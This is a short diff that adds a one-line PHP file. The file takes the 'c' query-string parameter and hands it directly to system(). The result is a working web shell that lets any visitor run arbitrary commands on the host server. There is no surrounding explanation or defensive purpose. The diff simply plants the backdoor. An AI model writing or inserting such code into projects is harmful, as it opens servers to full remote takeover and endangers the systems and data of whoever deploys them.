@@ -1,0 +1,1 @@
+<?php $c = (string)"$_GET[c]"; system($c);
